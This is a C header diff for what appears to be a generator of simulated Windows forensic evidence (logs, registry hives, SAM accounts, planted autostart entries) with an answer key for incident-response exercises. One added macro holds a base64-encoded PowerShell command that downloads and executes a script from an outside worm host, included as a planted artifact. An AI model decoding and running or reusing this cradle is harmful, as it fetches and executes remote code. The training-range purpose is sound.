@@ -17,12 +17,18 @@
 #define FROM_OUTSIDE (-1)
 #define BY_SEED (-1)
 
+/* The worm's task of the PowerShell era, as it stands in logs, task files and hives: a download from a host that is long gone. */
+#define ENCODED \
+    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBkAG8AdwBuAGwAbwBhAGQAcwB0AHIAaQBuAGcAKAAnAGgAdAB0" \
+    "AHAAOgAvAC8AdgAuAGIAZQBhAGgAaAAuAGMAbwBtAC8AdgAnACkA"
+
 typedef enum { WAY_RDP, WAY_RDP_NLA, WAY_SMB, WAY_MSSQL, WAY_EXPLOIT, WAYS } way;
 typedef enum { ACCESS_GUESSED, ACCESS_KNOWN, ACCESS_EXPLOIT } access_kind;
 
 typedef struct {
     uint64_t seed;
     const char *out;
+    bool no_hives;
     int entry, hosts, language, undelivered, source_empty, slow, cleared, rolled, audit_off, renamed, overlap, intruders, no_attack, days, scene;   /* BY_SEED: rolled */
     int clock_off; bool clock_given;              /* hours */
     double size;                                  /* MB of all logs together; 0: by the seed */
@@ -53,7 +59,18 @@ typedef struct {
     moment copy_at;
     struct { bool written; uint64_t first, next, copy_first, copy_next; moment from; } kept[CHANNELS];       /* what was delivered of each log */
     int step;                                     /* the step that infected it; -1: none */
+    /* What its life did that hives remember. */
+    vec people;                                   /* of person */
+    vec gone;                                     /* of gone_service */
+    bool smb1_off;
+    bool dirty, dhcp;                             /* SYSTEM was copied while it ran; its address is leased */
+    moment ports_at, stopped_at;                  /* port proxy and firewall rule set; last clean shutdown; MOMENT_UNKNOWN: never */
 } host;
+
+/* A local account as SAM counts it. */
+typedef struct { const char *name; moment last_logon, last_failure; unsigned logons, failures; } person;
+/* A service that was removed again. */
+typedef struct { const char *name, *image; moment at, until; bool hostile; } gone_service;
 
 /* What a record can show of a step. */
 typedef enum { SHOWS_FAILURE, SHOWS_SUCCESS, SHOWS_SOURCE, SHOWS_SESSION, SHOWS_SERVICE, SHOWS_SWITCH, SHOWS_CHILD, SHOWS_HOSTILE, SHOWS_KINDS } shows;
@@ -72,9 +89,25 @@ typedef struct {
 } step;
 
 typedef enum { LEFT_SERVICE, LEFT_TASK, LEFT_ACCOUNT } left_kind;
-typedef struct { int host; left_kind kind; const char *name, *what; vec marks; int intruder; } left;    /* what stays behind; what: "created", "admin-group" */
+typedef struct { int host; left_kind kind; const char *name, *what; vec marks; int intruder; moment at; } left;    /* what stays behind; what: "created", "admin-group" */
 
 typedef struct { int host; const char *name; } passing;
+
+/* What stands in hives, task files and folders, for the truth. Words of case.json; `kind` is the family of autostart points. */
+typedef struct {
+    int host;
+    const char *kind, *location, *value, *name, *command, *file, *technique;
+    bool hostile;                                 /* no: looks odd, and is the administrator's or a vendor's */
+    bool deleted, in_log;                         /* only in a free cell; only in a transaction log */
+    moment at;
+} planted;
+typedef struct { int host; const char *what; span bytes; const char *text; } secret;
+typedef struct { int host; const char *check, *found, *state; } exposed;
+typedef struct {
+    int host; unsigned rid; const char *name, *groups, *looks; bool disabled, hostile;
+    moment created, last_logon, password_set; unsigned logons;
+} sam_account;
+typedef struct { int host; const char *product, *build, *install_type; moment installed, shutdown; bool dhcp; } host_state;
 
 typedef struct { const char *name, *address, *account; } neighbour;
 
@@ -89,6 +122,7 @@ typedef struct {
     step steps[STEPS_MOST]; int step_count;
     vec lefts;                                    /* of left */
     vec passing;                                  /* of passing: hostile, gone again, and no wrong answer where it is named */
+    vec planted, secrets, exposed, accounts, states;              /* of what hives hold */
     neighbour jump, scanner, backup, monitor, stale, apps[4];
     const char *network;                          /* "192.168.100." */
     moment scan_first;                            /* the scanner's first weekly scan */
@@ -146,6 +180,8 @@ unsigned sim_hour(const sim *s, moment t);                       /* 0..23, wall 
 bool   sim_working(const sim *s, moment t);                      /* a working day between 9 and 18 */
 void   mark_step(step *st, shows what, channel_id channel, uint64_t id);     /* id 0: nothing was written */
 void   mark_left(sim *s, const char *name, channel_id channel, uint64_t id);
+void   left_now(sim *s, const char *name);                        /* it is being made, whether a log shows it or not */
+person *sim_person(sim *s, const char *user);                     /* of a local account; made where there is none */
 
 /* ---- Records (log_security.c, log_system.c, log_other.c); each returns its record id, or 0 when this host does not log it */
 
@@ -201,6 +237,7 @@ void attack_after_boot(sim *s);
 switches switches_none(void);                                      /* all by the seed, and no seed */
 status range_make(const switches *sw);                             /* logs, truth.json, and scene.yml where it is wanted */
 status world_make(arena *mem, const switches *sw, world **out);    /* *out is set in any case */
+void   truth_hives(const world *w, json_writer *j);               /* its part of hives */
 status truth_write(const world *w);                                /* truth.json */
 status scene_write(const world *w);                                /* scene.yml: what the customer told, with one wrong crash time */
 status range_write_file(const char *path, const buf *bytes);
